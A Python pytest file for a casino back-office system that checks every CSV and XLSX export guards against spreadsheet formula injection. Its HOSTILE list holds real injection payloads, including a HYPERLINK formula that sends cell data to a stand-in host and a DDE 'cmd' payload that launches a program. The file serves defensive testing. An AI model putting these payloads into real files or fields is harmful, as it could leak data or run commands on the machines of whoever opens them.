"""Every export, requested with hostile text in every field a person writes: no cell runs.

One venue is played on through the services (rounds, a voided round, slips posted and
voided, a buy-in, a comp, a shift report and the investigation its flag opens), then every
free-text column of every row of the floor (names, reasons, notes, codes, usernames: found
by walking the models, not listed by hand) is given a formula an attacker would type. Every
route the resolver serves an ``@export_view`` from is requested as the venue's manager (the
test's table of routes must name exactly those), and each file is read back as a
spreadsheet would read it: no cell starts a formula except a plain negative number, no
number is written in a person's grouping (``12.000.000``), and each number column of each
table is a number in one format. No module but ``casino/exports.py`` writes CSV or XLSX.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal as D
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from django.apps import apps
from django.conf import settings
from django.contrib.auth import get_user_model
from django.db import DatabaseError, models, transaction
from django.http import HttpResponse
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import translation
from openpyxl import load_workbook

from casino import export_views, exports
from casino.cage.models import Slip, SlipStatus
from casino.cage.services.cash import cash_record
from casino.cage.services.credit_lines import credit_line_approve, credit_line_propose
from casino.cage.services.front_money import front_money_deposit
from casino.cage.services.inventory import cage_count_record, cage_count_sign
from casino.cage.services.markers import marker_issue_at_cage
from casino.cage.services.slips import slip_request, slip_void
from casino.cage.services.thresholds import thresholds_approve, thresholds_propose
from casino.exports import Column, Export, Kind, Sheet
from casino.floor.services.rounds import round_create
from casino.floor.services.sessions import session_open
from casino.floor.services.settlement import round_settle
from casino.floor.services.voids import round_void
from casino.games import BoxInput
from casino.integrity.investigations import investigations_sync
from casino.integrity.models import FluctuationInvestigation
from casino.reports import outputs, periods
from casino.reports.comps import comp_issue, comp_policy_approve, comp_policy_propose
from casino.reports.models import ShiftReport
from casino.reports.services import report_build, report_request
from casino.staff.roles import CAGE, COMPLIANCE, DEALER, MANAGER, SUPERVISOR
from casino.venues.models import Venue
from niuniu.models import NiuNiuRulesetVersion
from tests.casino.slips import slip_post
from tests.factories import PlayerFactory, VenueFactory, niuniu_table, staff

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
#: What people have typed into casino back offices to make a spreadsheet run it.
HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dHYPERLINK(1)",  # a full-width equals sign
    "\uff20SUM(1)",
]
#: Text columns left as they are: what the code reads (cards, keys, codes of games and bet
#: types, zones, a stored file's name, the audit trail's own words), not what a person writes.
PARSED = {
    *("cards", "dealer_cards", "key", "create_key", "settle_key", "token_key", "digest"),
    *("pin_hash", "password", "timezone", "language", "currency", "game", "bet_type"),
    *("category", "subject", "rank", "suit", "content_type", "step", "method", "address"),
    *("AuditEvent.action", "AuditEvent.object_type", "AuditEvent.object_id"),
    "ShiftReportFile.name",
}
#: Plain numbers as the writer writes them; numbers as a person groups them.
PLAIN = re.compile(r"-?\d+(\.\d+)?")
GROUPED = re.compile(r"-?\d{1,3}([.,\u00a0 ]\d{3})+([.,]\d+)?")
OPENING = {"1000000": 20}
NIU_9 = "KS QS 5H 4H TC"
NIU_8 = "JS QH JD AC 7H"


def _hostile(index: int, unique: str, max_length: int | None) -> str:
    text = HOSTILE[index % len(HOSTILE)]
    return text[: (max_length or len(text) + len(unique)) - len(unique)] + unique


def _free_text(model: type[models.Model]) -> list[models.Field]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and f.name not in PARSED
        and f"{model.__name__}.{f.name}" not in PARSED
    ]


def spoil() -> None:
    """Every free-text column of every floor row (and every username) made a formula;
    a row an append-only trigger guards keeps what it has, as it would in use."""
    targets = [
        *(
            model
            for config in apps.get_app_configs()
            if config.name == "casino" or config.name.startswith("casino.")
            for model in config.get_models()
        ),
        get_user_model(),
    ]
    for model in targets:
        fields = _free_text(model)
        if not fields:
            continue
        for index, row in enumerate(model.objects.all()):
            values = {
                f.attname: _hostile(index + n, f"#{row.pk}", f.max_length)
                for n, f in enumerate(fields)
            }
            try:
                with transaction.atomic():
                    model.objects.filter(pk=row.pk).update(**values)
            except DatabaseError:
                pass


@dataclass
class World:
    venue: Venue
    manager: Any
    report: ShiftReport
    day: str
    #: A cage shift opened by a count the cashier took and the manager signed.
    cage_shift: Any = None
    #: The venue's compliance officer: the large-cash-transaction report is theirs alone.
    compliance: Any = None


def _round(session, dealer, player, stake="5000000"):
    round_, _result = round_create(
        session=session,
        user=dealer,
        dealer_cards=NIU_8,
        boxes=[BoxInput(position=1, cards=NIU_9, stakes={"single": D(stake)}, player_id=player.pk)],
    )
    return round_settle(round_=round_, user=dealer, key=f"k-{round_.pk}")[0]


def build_world() -> World:
    venue = VenueFactory(code="xq", name="Xq Club", language="en", amount_grouping="dot")
    dealer = staff("xq-dealer", DEALER, venue)
    supervisor = staff("xq-supervisor", SUPERVISOR, venue)
    supervisor2 = staff("xq-supervisor2", SUPERVISOR, venue)
    manager = staff("xq-manager", MANAGER, venue)
    cashier = staff("xq-cashier", CAGE, venue)
    table = niuniu_table(venue, code="XQ1")
    NiuNiuRulesetVersion.objects.filter(ruleset=table.ruleset).update(
        figures={"house_edge": {"single": "0.025"}, "sd": {"single": "1"}}
    )
    player = PlayerFactory(
        venue=venue,
        membership_number="XQ-1",
        name="An",
        # on record: the reporting threshold reached asks for no document at the table
        id_document_type="passport",
        id_document_number="XQ123456",
    )
    session = session_open(
        table=table, counted_by=dealer, confirmed_by=supervisor, opening_chips=OPENING
    )
    _round(session, dealer, player)
    round_void(
        round_=_round(session, dealer, player, "3000000"),
        requested_by=dealer,
        approved_by=supervisor2,
        reason="a misdeal",
    )
    slip_post(
        slip_request(session=session, user=dealer, kind="fill", chips={"1000000": 12}),
        dealer=dealer,
        supervisor=supervisor,
        cashier=cashier,
    )
    slip_void(
        slip=slip_request(session=session, user=dealer, kind="fill", chips={"1000000": 1}),
        user=supervisor,
        reason="asked twice",
    )
    # Thresholds in force, so the day's cash raises an alert (a line of the LCTR file).
    thresholds_approve(
        version=thresholds_propose(
            venue=venue,
            user=manager,
            logging_threshold=D("30000000"),
            reporting_threshold=D("100000000"),
        ),
        user=staff("xq-manager4", MANAGER, venue),
    )
    cash_record(session=session, user=dealer, player=player, amount=D("196960000"))
    cash_record(session=session, user=dealer, player=player, amount=D("7060000"))
    policy = comp_policy_propose(
        venue=venue,
        user=manager,
        reinvestment_pct="20",
        supervisor_limit="30000",
        manager_limit="100000",
    )
    comp_policy_approve(policy=policy, user=staff("xq-manager2", MANAGER, venue))
    comp_issue(player=player, user=supervisor, amount="20000", kind="show", notes="a show")
    line = credit_line_propose(venue=venue, player=player, user=manager, limit="100000000")
    credit_line_approve(line=line, user=staff("xq-manager3", MANAGER, venue))
    marker_issue_at_cage(
        venue=venue,
        player=player,
        user=cashier,
        supervisor=supervisor,
        amount="5000000",
        player_signed=True,
        note="a marker",
    )
    front_money_deposit(venue=venue, player=player, user=cashier, amount="1000000", note="safe")
    opening = cage_count_record(
        venue=venue, user=cashier, kind="opening", counted={"chips": {"100000": 10}}
    )
    cage_shift = cage_count_sign(count=opening, user=manager).shift
    spoil()  # before the report is built, so its figures carry the names
    report = report_request(shift_id=session.shift_id, send=False)
    real_pdf, outputs.render_pdf = outputs.render_pdf, lambda figures, svgs: b"%PDF-1.7 stub"
    try:
        report = report_build(report_id=report.pk, email=False)
    finally:
        outputs.render_pdf = real_pdf
    total = {**report.figures["total"], "flagged": True}
    ShiftReport.objects.filter(pk=report.pk).update(figures={**report.figures, "total": total})
    report.refresh_from_db()
    investigations_sync(report)
    spoil()  # the investigation's own text too
    venue.refresh_from_db()
    report.refresh_from_db()
    assert FluctuationInvestigation.objects.filter(venue=venue).exists()
    return World(
        venue,
        manager,
        report,
        session.shift.gaming_date.isoformat(),
        cage_shift,
        staff("xq-compliance", COMPLIANCE, venue),
    )


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """The venue, made once for the module in a transaction rolled back at its end."""
    with django_db_blocker.unblock(), transaction.atomic():
        yield build_world()
        transaction.set_rollback(True)


# The routes that answer a file

Url = Callable[[World], list[str]]


def _reports(name: str, **query: str) -> Url:
    def urls(world: World) -> list[str]:
        asked = {"venue": world.venue.code, "from": world.day, "to": world.day, **query}
        return [f"{reverse(f'reports:{name}')}?{urlencode(asked)}"]

    return urls


def _group(world: World) -> list[str]:
    """The venue as the one venue of an operating group speaking its language, and the
    group's figures of the day (its manager reads the venue's lines)."""
    from casino.group.models import OperatingGroup
    from casino.group.services import group_create, group_venue_add

    group = OperatingGroup.objects.filter(code="export-group").first()
    if group is None:
        group = group_create(
            user=None, code="export-group", name="Export group", reporting_currency="USD"
        )
        group_venue_add(user=None, group=group, venue=world.venue, country="VN")
    language = Venue.objects.get(pk=world.venue.pk).language
    OperatingGroup.objects.filter(pk=group.pk).update(language=language)
    asked = {"group": group.code, "kind": "day", "date": world.day}
    return [
        f"{reverse('group:dashboard_csv')}?{urlencode({**asked, 'dimension': dimension})}"
        for dimension in ("venue", "country", "game", "pit")
    ]


#: Every export route: the URLs that ask it for each of its files.
EXPORTS: dict[str, Url] = {
    "group:dashboard_csv": _group,
    "console:slip-report-csv": lambda world: [
        reverse("console:slip-report-csv", args=[world.venue.pk]) + f"?day={world.day}"
    ],
    "console:cash-log-csv": lambda world: [
        reverse("console:cash-log-csv", args=[world.venue.pk]) + f"?day={world.day}"
    ],
    "reports:file": lambda world: [
        reverse("reports:file", args=[world.report.pk, name])
        for name in (outputs.CSV_NAME, outputs.XLSX_NAME)
    ],
    "reports:cash_csv": _reports("cash_csv"),
    "reports:marker_aging_csv": lambda world: [
        f"{reverse('reports:marker_aging_csv')}?{urlencode({'venue': world.venue.code})}"
    ],
    "reports:front_money_csv": lambda world: [
        f"{reverse('reports:front_money_csv')}?{urlencode({'venue': world.venue.code})}"
    ],
    "reports:chip_liability_csv": lambda world: [
        f"{reverse('reports:chip_liability_csv')}?{urlencode({'venue': world.venue.code})}"
    ],
    "reports:cage_shift_csv": lambda world: [
        reverse("reports:cage_shift_csv", args=[world.cage_shift.pk])
        + f"?{urlencode({'venue': world.venue.code})}"
    ],
    "reports:comps_csv": _reports("comps_csv"),
    # The XML file of the same layout is no spreadsheet: tests/casino/compliance/test_screens.py.
    "compliance:lctr-file": lambda world: [
        reverse("compliance:lctr-file", args=[world.venue.pk, "csv"])
        + f"?{urlencode({'from': world.day, 'to': world.day})}"
    ],
    "reports:investigation_log": _reports("investigation_log", format="csv"),
    "reports:statistical_file": lambda world: [
        reverse("reports:statistical_file", args=[name])
        + "?"
        + urlencode({"venue": world.venue.code, "date": world.day})
        for name in ("csv", "xlsx")
    ],
    "reports:reconciliation_file": lambda world: [
        reverse("reports:reconciliation_file", args=[name])
        + "?"
        + urlencode({"venue": world.venue.code, "date": world.day})
        for name in ("csv", "xlsx")
    ],
    "reports:periods_csv": lambda world: [
        url
        for dimension in periods.DIMENSIONS
        for url in _reports("periods_csv", kind="day", date=world.day, dimension=dimension)(world)
    ],
}


#: The exports only the venue's compliance staff build (every other: its manager).
COMPLIANCE_EXPORTS = {"compliance:lctr-file"}
#: Files in a layout whose names and codes are the same in every language
#: (docs/compliance/LCTR-layout.md): no language of their own to check.
FIXED_LAYOUT = {"compliance:lctr-file"}


def reader(world: World, name: str) -> Client:
    """A client of whom the export is for, logged in."""
    client = Client()
    client.force_login(world.compliance if name in COMPLIANCE_EXPORTS else world.manager)
    return client


def export_routes() -> dict[str, str]:
    """Every route the resolver serves a marked view from, or whose pattern looks like a
    download: name -> its pattern; and every marked view it serves (``SERVED``)."""
    found: dict[str, str] = {}

    def walk(patterns: list, prefix: str, namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
            elif isinstance(pattern, URLPattern):
                route = prefix + str(pattern.pattern)
                if getattr(pattern.callback, "export_view", False):
                    found[f"{namespace}{pattern.name}"] = route
                    view = pattern.callback
                    SERVED.add(f"{view.__module__}.{view.__qualname__}")
                elif re.search(r"csv|xlsx|export|download|/files/", route, re.IGNORECASE):
                    found[f"{namespace}{pattern.name} (not marked @export_view)"] = route

    walk(get_resolver().url_patterns, "", "")
    return found


SERVED: set[str] = set()


def test_the_table_names_every_export_route_and_nothing_else():
    assert sorted(export_routes()) == sorted(EXPORTS)
    assert SERVED == export_views.EXPORT_VIEWS  # and no view is marked that no route serves


def test_no_module_but_the_writer_writes_a_spreadsheet():
    writes = re.compile(r"\bimport csv\b|csv\.(writer|DictWriter)|openpyxl|xlsxwriter|text/csv")
    found = [
        str(path.relative_to(ROOT))
        for package in ("casino", "niuniu", "maubinh", "baccarat", "tablegames")
        for path in (ROOT / package).rglob("*.py")
        if "migrations" not in path.parts
        and path != ROOT / "casino" / "exports.py"
        and writes.search(path.read_text(encoding="utf-8"))
    ]
    assert found == []


# Reading the files back


def _starts_formula(text: str) -> bool:
    return exports.is_formula_like(text) and not PLAIN.fullmatch(text)


def _decimals(text: str) -> int:
    return len(text.partition(".")[2])


def check_csv(raw: bytes, export: Export) -> int:
    """Read as a spreadsheet would: the number of text cells kept from running."""
    assert raw.startswith(b"\xef\xbb\xbf"), "no byte order mark"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    guarded = 0
    for row in rows:
        for cell in row:
            assert not _starts_formula(cell), cell
            assert not GROUPED.fullmatch(cell), f"a number as text: {cell}"
            guarded += cell.startswith("'") and exports.is_formula_like(cell[1:])
    for sheet in export.sheets:
        headers = [exports.guarded(str(column.header)) for column in sheet.columns]
        start = rows.index(headers) + 1
        table = []
        for row in rows[start:]:
            if not row or row[0].startswith("'[") or row[0].startswith("["):
                break
            table.append(row)
        for index, column in enumerate(sheet.columns):
            cells = [row[index] for row in table if row[index] != ""]
            if column.kind is Kind.TEXT:
                continue
            assert all(PLAIN.fullmatch(cell) for cell in cells), (column.header, cells)
            assert len({_decimals(cell) for cell in cells}) <= 1, (column.header, cells)
    return guarded


def check_xlsx(raw: bytes, export: Export) -> int:
    """Read as a spreadsheet would: the number of text cells kept from running."""
    book = load_workbook(io.BytesIO(raw))
    guarded = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.quotePrefix or not exports.is_formula_like(cell.value), cell.value
                    assert not GROUPED.fullmatch(cell.value), cell.value
                    guarded += cell.quotePrefix
    for sheet, written in zip(book, export.sheets, strict=True):
        headers = [str(column.header) for column in written.columns]
        rows = [list(row) for row in sheet.iter_rows()]
        start = next(i for i, row in enumerate(rows) if [c.value for c in row] == headers) + 1
        for index, column in enumerate(written.columns):
            if column.kind is Kind.TEXT:
                continue
            cells = [row[index] for row in rows[start:] if row[index].value is not None]
            assert all(cell.data_type == "n" for cell in cells), column.header
            assert len({cell.number_format for cell in cells}) <= 1, column.header
    return guarded


@pytest.fixture
def spied(monkeypatch):
    """The exports the views build, kept as they are written."""
    built: list[Export] = []
    for name in ("csv_bytes", "xlsx_bytes"):
        real = getattr(exports, name)

        def spy(export: Export, real=real) -> bytes:
            built.append(export)
            return real(export)

        monkeypatch.setattr(exports, name, spy)
    return built


@pytest.mark.parametrize("name", list(EXPORTS))
def test_no_export_runs_what_people_typed(world, spied, name):
    client = reader(world, name)
    for url in EXPORTS[name](world):
        spied.clear()
        response = client.get(url)
        assert response.status_code == 200, (url, response.content[:500])
        assert response["Content-Disposition"].startswith("attachment; filename="), url
        content_type = response["Content-Type"]
        # the stored report's files were written when it was built: the same figures again
        (export,) = spied or [outputs.export_of(world.report.figures)]
        if content_type == exports.CONTENT_TYPES["csv"]:
            guarded = check_csv(response.content, export)
        else:
            assert content_type == exports.CONTENT_TYPES["xlsx"], url
            guarded = check_xlsx(response.content, export)
        assert guarded, f"{url}: no hostile text reached the file, so nothing was tried"


@pytest.mark.parametrize(
    "name", [name for name in EXPORTS if name not in {"reports:file", *FIXED_LAYOUT}]
)
def test_an_export_speaks_the_venues_language_unless_the_reader_picked_one(world, name):
    # (a shift report's files are written in the venue's language by the worker that builds
    # them: tests/casino/reports/test_languages.py)
    Venue.objects.filter(pk=world.venue.pk).update(language="ko")
    client = reader(world, name)
    hangul = re.compile("[\uac00-\ud7a3]")
    for url in EXPORTS[name](world):
        assert hangul.search(_text_of(client.get(url))), url
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    for url in EXPORTS[name](world):
        assert not hangul.search(_text_of(client.get(url))), url


@pytest.mark.parametrize("name", [name for name in EXPORTS if name not in FIXED_LAYOUT])
def test_an_export_speaks_the_readers_language_when_its_link_asks(world, spied, name):
    Venue.objects.filter(pk=world.venue.pk).update(language="ko")
    client = reader(world, name)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    hangul = re.compile("[\uac00-\ud7a3]")
    for url in EXPORTS[name](world):
        joined = "&" if "?" in url else "?"
        venues = client.get(f"{url}{joined}lang=venue")
        spied.clear()
        readers = client.get(f"{url}{joined}lang=reader")
        assert (venues["Content-Language"], readers["Content-Language"]) == ("ko", "en"), url
        assert hangul.search(_text_of(venues)), url
        assert not hangul.search(_text_of(readers)), url
        # the reader's copy keeps its numbers numbers, one format a column
        with translation.override("en"):
            (export,) = spied or [outputs.export_of(world.report.figures)]
        if readers["Content-Type"] == exports.CONTENT_TYPES["csv"]:
            check_csv(readers.content, export)
        else:
            check_xlsx(readers.content, export)


def test_a_filed_copy_is_the_venues_unless_the_reader_asks_theirs(world):
    Venue.objects.filter(pk=world.venue.pk).update(language="ko")
    client = Client()
    client.force_login(world.manager)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    url = reverse("reports:file", args=[world.report.pk, outputs.CSV_NAME])
    stored = client.get(url)
    assert stored["Content-Language"] == "ko"
    asked = client.get(url + "?lang=reader")
    assert asked["Content-Language"] == "en"
    assert "Shift report" in _text_of(asked)
    with translation.override("en"):
        check_csv(asked.content, outputs.export_of(world.report.figures))


def test_a_marked_view_that_skips_the_language_rule_fails(rf):
    @export_views.export_view
    def careless(request):
        response = HttpResponse(b"x", content_type=exports.CONTENT_TYPES["csv"])
        response["Content-Disposition"] = "attachment; filename=x.csv"
        return response

    export_views.EXPORT_VIEWS.discard(f"{careless.__module__}.{careless.__qualname__}")
    with pytest.raises(RuntimeError, match="file_language"):
        careless(rf.get("/x.csv"))


def test_a_page_offers_its_files_in_both_languages(world):
    client = Client()
    client.force_login(world.manager)
    Venue.objects.filter(pk=world.venue.pk).update(language="vi")
    url = reverse("reports:report", args=[world.report.pk])
    assert "lang=reader" not in client.get(url, HTTP_ACCEPT_LANGUAGE="vi").content.decode()
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = client.get(url).content.decode()
    assert "lang=venue" in page and "lang=reader" in page
    assert 'hreflang="vi"' in page and 'hreflang="en"' in page
    assert "Tiếng Việt" in page and "English" in page


def _text_of(response: Any) -> str:
    """What a file says: a CSV's text, or every text cell of an XLSX's sheets and titles."""
    if response["Content-Type"] != exports.CONTENT_TYPES["xlsx"]:
        return response.content.decode("utf-8-sig")
    book = load_workbook(io.BytesIO(response.content))
    cells = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row]
    return "\n".join([*book.sheetnames, *cells])


def test_the_slip_report_guards_its_reasons_and_writes_its_amounts_as_numbers(world):
    # given voided slips whose reasons are formulas, at a venue writing 12.000.000
    voided = Slip.objects.filter(venue=world.venue, status=SlipStatus.VOID)
    Slip.objects.filter(pk=voided.get().pk).update(void_reason='=HYPERLINK("http://x/?"&A1,"y")')
    posted = Slip.objects.filter(venue=world.venue).exclude(status=SlipStatus.VOID).get()
    client = Client()
    client.force_login(world.manager)
    # when the report is downloaded
    url = EXPORTS["console:slip-report-csv"](world)[0]
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    # then the reason reads as typed after a quote, and the amounts are plain numbers
    header = rows[0]
    by_label = {row[0]: row for row in rows[1:]}
    assert by_label[voided.get().label][header.index("Reason")] == (
        '\'=HYPERLINK("http://x/?"&A1,"y")'
    )
    assert by_label[posted.label][header.index("Amount")] == "12000000"
    Slip.objects.filter(pk=voided.get().pk).update(void_reason="@SUM(1+1)")
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    assert "'@SUM(1+1)" in {cell for row in rows for cell in row}


# The writer itself


def test_a_money_column_has_one_format_and_no_grouping():
    export = Export(
        currency="VND",
        heading=[["=venue", exports.Cell(D("-5000.00"), Kind.MONEY)]],
        sheets=[
            Sheet(
                "Amounts",
                [Column("Amount", Kind.MONEY), Column("Hold %", Kind.PERCENT), Column("Note")],
                [[D("196960000.00"), D("12.5"), "-1"], [7060000, "3", "\uff0b1"], [None, None, ""]],
            )
        ],
    )
    raw = exports.csv_bytes(export)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows == [
        ["'=venue", "-5000"],
        ["Amount", "Hold %", "Note"],
        ["196960000", "12.50", "'-1"],
        ["7060000", "3.00", "'\uff0b1"],
        ["", "", ""],
    ]
    book = load_workbook(io.BytesIO(exports.xlsx_bytes(export)))
    sheet = book["Amounts"]
    assert (sheet["A1"].value, sheet["A1"].quotePrefix, sheet["A1"].data_type) == (
        "=venue",
        True,
        "s",
    )
    amount = sheet["A4"]
    assert (amount.value, amount.data_type, amount.number_format) == (196960000, "n", "#,##0")
    mop = exports.csv_bytes(
        Export(currency="MOP", sheets=[Sheet("A", [Column("A", Kind.MONEY)], [[12], ["0.5"]])])
    )
    assert mop.decode("utf-8-sig").splitlines() == ["A", "12.00", "0.50"]


def test_a_number_cell_refuses_what_is_no_number():
    sheet = Sheet("A", [Column("A", Kind.MONEY)], [["12.000.000"]])
    with pytest.raises(TypeError):
        exports.csv_bytes(Export(currency="VND", sheets=[sheet]))
